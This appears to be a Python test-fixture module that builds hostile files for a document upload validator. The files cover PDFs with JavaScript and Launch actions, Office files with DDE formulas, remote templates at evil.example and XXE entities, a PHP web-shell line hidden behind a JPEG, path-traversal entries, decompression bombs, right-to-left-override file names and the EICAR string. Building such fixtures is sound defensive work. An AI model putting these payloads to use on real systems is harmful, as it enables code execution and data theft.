"""Hostile files for the tests of the intake, made here, each with what the user is told."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array
from PIL import Image

from tests.documents.intake_files import PACKED, XML, docx, packet, pdf, picture, relation, relations, xlsx

# -- hostile: PDF ------------------------------------------------------------------------------------------------------

SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>"


def parsed(text: str) -> Any:
    """An object as a PDF writes it."""
    return pikepdf.Object.parse(text.encode())


def root(key: str, text: str) -> Callable[[Any], None]:
    """Put something into the catalogue, as an object of its own."""

    def change(made: Any) -> None:
        made.Root[f"/{key}"] = made.make_indirect(parsed(text))

    return change


def note(text: str) -> Callable[[Any], None]:
    """Put an annotation on the page."""

    def change(made: Any) -> None:
        annotation = parsed(f"<</Type/Annot/Rect[0 0 9 9]{text}>>")
        made.pages[0].Annots = Array([made.make_indirect(annotation)])

    return change


def link(action: str) -> Callable[[Any], None]:
    """Put a link on the page that does something when it is clicked on."""
    return note(f"/Subtype/Link/A<<{action}>>")


def page(key: str, text: str) -> Callable[[Any], None]:
    """Put something into the page itself."""
    return lambda made: made.pages[0].obj.__setitem__(f"/{key}", parsed(text))


def carrying(made: Any) -> None:
    """A file inside, as PDF/A-3 has it."""
    made.attachments["evil.exe"] = b"MZ..."


def deep(made: Any) -> None:
    """Arrays in arrays, deeper than anybody needs."""
    nested = Array([1])
    for _n in range(200):
        nested = Array([nested])
    made.Root.Deep = nested


def broken_table() -> bytes:
    """A table of objects that readers have to guess anew."""
    return pdf().replace(b"startxref", b"startxxxx")


def old_state() -> bytes:
    """A script that a later state of the file left out."""
    older = b"%PDF-1.4\n9 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj\n"
    newer = pdf()
    return older + newer[newer.index(b"\n") :]


def disguised() -> bytes:
    """A name written with a code for one of its letters."""
    return pdf(link("/S/Launch/F(abcd)")).replace(b"/Launch", b"/#4caunch").replace(b"(abcd)", b"(ab)")


ACTIVE, EMBEDDED, AROUND, DAMAGED = (
    "does something by itself",
    "other files inside",
    "in front of or behind",
    "is damaged",
)
OUTSIDE, MACROS, FOREIGN, KIND = "fetches something", "macros", "does not belong", "does not fit its content"
BOMB, ONLY, PROTECTED = "too large or too intricate", "Only these are accepted", "protected by a password"

HOSTILE_PDF: dict[str, tuple[bytes, str]] = {
    "open-script.pdf": (pdf(root("OpenAction", SCRIPT)), ACTIVE),
    "open-script-packed.pdf": (pdf(root("OpenAction", SCRIPT), **PACKED), ACTIVE),
    "named-script.pdf": (pdf(root("Names", f"<</JavaScript<</Names[(a){SCRIPT}]>>>>"), **PACKED), ACTIVE),
    "page-script.pdf": (pdf(page("AA", f"<</O{SCRIPT}>>"), **PACKED), ACTIVE),
    "catalogue-aa.pdf": (pdf(root("AA", "<</WC<</S/GoTo>>>>"), **PACKED), ACTIVE),
    "launch.pdf": (pdf(link("/S/Launch/F(cmd.exe)"), **PACKED), ACTIVE),
    "launch-disguised.pdf": (disguised(), ACTIVE),
    "next-script.pdf": (pdf(link(f"/S/URI/URI(https://a/)/Next{SCRIPT}"), **PACKED), ACTIVE),
    "submit.pdf": (pdf(link("/S/SubmitForm/F(http://a/)"), **PACKED), ACTIVE),
    "import-data.pdf": (pdf(link("/S/ImportData"), **PACKED), ACTIVE),
    "go-to-remote.pdf": (pdf(link("/S/GoToR/F(//host/share)"), **PACKED), ACTIVE),
    "open-uri.pdf": (pdf(root("OpenAction", "<</S/URI/URI(https://a/)>>"), **PACKED), ACTIVE),
    "script-address.pdf": (pdf(link("/S/URI/URI(javascript:alert\\(1\\))"), **PACKED), OUTSIDE),
    "file-address.pdf": (pdf(link("/S/URI/URI(file:///etc/passwd)"), **PACKED), OUTSIDE),
    "unknown-action.pdf": (pdf(link("/Type/Action/S/Surprise"), **PACKED), ACTIVE),
    "carrying.pdf": (pdf(carrying), EMBEDDED),
    "carrying-packed.pdf": (pdf(carrying, **PACKED), EMBEDDED),
    "file-note.pdf": (pdf(note("/Subtype/FileAttachment"), **PACKED), EMBEDDED),
    "portfolio.pdf": (pdf(root("Collection", "<</View/D>>"), **PACKED), EMBEDDED),
    "xfa.pdf": (pdf(root("AcroForm", "<</XFA(<xdp/>)>>"), **PACKED), "old kind (XFA)"),
    "rich-media.pdf": (pdf(note("/Subtype/RichMedia"), **PACKED), "plays sound, film"),
    "film.pdf": (pdf(note("/Subtype/Movie"), **PACKED), "plays sound, film"),
    "model.pdf": (pdf(note("/Subtype/3D"), **PACKED), "plays sound, film"),
    "old-state.pdf": (old_state(), ACTIVE),
    "locked.pdf": (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), PROTECTED),
    "half-locked.pdf": (pdf(encryption=pikepdf.Encryption(owner="a", user="")), PROTECTED),
    "no-pages.pdf": (pdf(lambda made: made.pages.__delitem__(0)), DAMAGED),
    "broken-table.pdf": (broken_table(), DAMAGED),
    "deep.pdf": (pdf(deep), DAMAGED),
    "half.pdf": (pdf()[:300], AROUND),
    "behind.pdf": (pdf() + b"MZ\x90\0", AROUND),
    "pdf-and-zip.pdf": (pdf() + packet({"a.class": b"\xca\xfe\xba\xbe"}), AROUND),
    "pdf-and-page.pdf": (b"<html><script>alert(1)</script>" + pdf(), KIND),
    "noise.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", DAMAGED),
}  # fmt: skip

# -- hostile: office ---------------------------------------------------------------------------------------------------


def field(*pieces: str) -> str:
    """A field whose instruction is scattered over runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def relating(kind: str, target: str, *, outside: bool = True) -> bytes:
    """A text with a relation."""
    return docx(more={"word/_rels/document.xml.rels": relations(relation(kind, target, outside=outside))})


def lying() -> bytes:
    """A packet one of whose parts unpacks to more than it declares."""
    content = bytearray(docx(more={"word/styles.xml": "<a>" + " " * 3_000_000 + "</a>"}))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def locked_packet() -> bytes:
    """A packet with a part that needs a password."""
    content = bytearray(docx())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def twice() -> bytes:
    """Two parts of one name: which one is meant?"""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
DDE = "<c><f>cmd|'/c calc'!A1</f></c>"
ENTITIES = f'{XML}<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'

HOSTILE_OFFICE: dict[str, tuple[bytes, str]] = {
    "macro.docx": (docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), MACROS),
    "macro-type.docx": (docx(media=MACRO_WORD), MACROS),
    "macro.xlsx": (xlsx(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), MACROS),
    "old-macros.xlsx": (xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), MACROS),
    "ribbon.docx": (docx(more={"customUI/customUI.xml": "<a/>"}), MACROS),
    "template.docx": (relating("attachedTemplate", "https://evil.example/t.dotm"), OUTSIDE),
    "picture-from-web.docx": (relating("image", "https://evil.example/p.png"), OUTSIDE),
    "share.docx": (relating("hyperlink", r"\\evil\share"), OUTSIDE),
    "script-link.docx": (relating("hyperlink", "javascript:alert(1)"), OUTSIDE),
    "frame.docx": (relating("frame", "https://evil.example/"), OUTSIDE),
    "object.docx": (docx(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), EMBEDDED),
    "object-relation.docx": (relating("oleObject", "media/image1.png", outside=False), EMBEDDED),
    "other-format.docx": (relating("aFChunk", "media/a.html", outside=False), EMBEDDED),
    "control.xlsx": (xlsx(more={"xl/activeX/activeX1.xml": "<a/>"}), EMBEDDED),
    "package.xlsx": (xlsx(more={"xl/embeddings/book.xlsx": b"PK"}), EMBEDDED),
    "other-book.xlsx": (xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), OUTSIDE),
    "data-source.xlsx": (xlsx(more={"xl/connections.xml": "<a/>"}), OUTSIDE),
    "dde.xlsx": (xlsx(DDE), OUTSIDE),
    "web.xlsx": (xlsx('<c><f>WEBSERVICE("http://evil/"&amp;A1)</f></c>'), OUTSIDE),
    "dde.docx": (docx(field(" DDE", "AUTO c:\\\\cmd.exe ")), OUTSIDE),
    "include.docx": (docx('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil/&quot; "/></w:p>'), OUTSIDE),
    "entities.docx": (docx(more={"word/styles.xml": ENTITIES}), FOREIGN),
    "hidden-entities.docx": (docx(more={"word/styles.xml": ENTITIES.encode("utf-16")}), FOREIGN),
    "vector.docx": (docx(more={"word/media/image1.svg": "<svg onload='alert(1)'/>"}), FOREIGN),
    "program.docx": (docx(more={"word/media/image1.exe": b"MZ"}), FOREIGN),
    "program-as-picture.docx": (docx(more={"word/media/image1.png": b"MZ\x90\0\3\0\0\0"}), FOREIGN),
    "climbing.docx": (docx(more={"../../etc/cron.d/x.xml": "<a/>"}), FOREIGN),
    "bomb.docx": (docx(more={"word/styles.xml": b" " * 60_000_000}), BOMB),
    "many-bombs.xlsx": (xlsx(more={f"xl/worksheets/sheet{n}.xml": b"ab " * 300_000 for n in range(2, 150)}), BOMB),
    "many-parts.docx": (docx(more={f"word/p{n}.xml": b"<a/>" for n in range(2100)}), BOMB),
    "lying.docx": (lying(), DAMAGED),
    "twice.docx": (twice(), BOMB),
    "locked.docx": (locked_packet(), PROTECTED),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old or encrypted office file"),
    "behind.docx": (docx() + b"MZ", AROUND),
    "remark.docx": (docx(comment=b"<script>"), AROUND),
    "front.docx": (b"MZ" + docx(), KIND),
    "jar.docx": (packet({"META-INF/MANIFEST.MF": "a", "a.class": b"\xca\xfe"}), FOREIGN),
    "table.docx": (xlsx(), KIND),
    "text.xlsx": (docx(), KIND),
    "half.docx": (docx()[:200], DAMAGED),
    "open-tag.docx": (docx(more={"word/styles.xml": "<a><b>"}), DAMAGED),
}  # fmt: skip

# -- hostile: pictures and the rest ------------------------------------------------------------------------------------


def flood(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that declares any number of points."""

    def chunk(name: bytes, said: bytes) -> bytes:
        return struct.pack(">I", len(said)) + name + said + struct.pack(">I", zlib.crc32(name + said))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 5000)) + chunk(b"IEND", b"")
    )


def moving() -> bytes:
    """A PNG with two pictures one after the other."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


PIXELS = "million points"
# In two parts, so that no scanner stumbles over this file.
TRIAL = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

HOSTILE_OTHERS: dict[str, tuple[bytes, str]] = {
    "flood.png": (flood(60_000, 60_000), PIXELS),
    "large.png": (flood(5_000, 4_000), PIXELS),
    "strip.png": (flood(30_000, 1), PIXELS),
    "moving.png": (moving(), "picture moves"),
    "behind.png": (picture("PNG") + b"PK\3\4", AROUND),
    "behind.jpg": (picture("JPEG") + b"<?php system($_GET[0]);", AROUND),
    "half.png": (picture("PNG")[:60], DAMAGED),
    "half.jpg": (picture("JPEG")[:-200], DAMAGED),
    "png.jpg": (picture("PNG"), KIND),
    "jpg.png": (picture("JPEG"), KIND),
    "pdf.png": (pdf(), KIND),
    "page.jpg": (b"<html><script>alert(1)</script></html>", KIND),
    "gif.png": (picture("GIF"), KIND),
    "vector.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", ONLY),
    "page.html": (b"<script>alert(1)</script>", ONLY),
    "script.js": (b"alert(1)", ONLY),
    "program.exe": (b"MZ\x90\0", ONLY),
    "packet.zip": (packet({"a": "b"}), ONLY),
    "letter.doc": (b"\xd0\xcf\x11\xe0", ONLY),
    "film.gif": (picture("GIF"), ONLY),
    "shortcut.lnk": (b"L\0\0\0", ONLY),
    "nothing": (pdf(), ONLY),
    ".pdf": (pdf(), ONLY),
    "macro.docm": (docx(), MACROS),
    "macro.xlsm": (xlsx(), MACROS),
    "program.exe.pdf": (pdf(), "two endings"),
    "page.html.png": (picture("PNG"), "two endings"),
    "report.pdf.exe": (b"MZ", ONLY),
    "report\u202efdp.exe": (b"MZ", "invisible marks"),
    "report\u202exe.pdf": (pdf(), "invisible marks"),
    "trial.pdf": (TRIAL, "mark of a virus"),
    "trial-inside.pdf": (pdf(lambda made: made.Root.__setitem__("/A", pikepdf.Stream(made, TRIAL)), compress_streams=False), "mark of a virus"),
    "empty.pdf": (b"", "is empty"),
    "large.pdf": (pdf() + b" " * 1024 * 1024, "larger than 1 MB"),
}  # fmt: skip

HOSTILE = HOSTILE_PDF | HOSTILE_OFFICE | HOSTILE_OTHERS
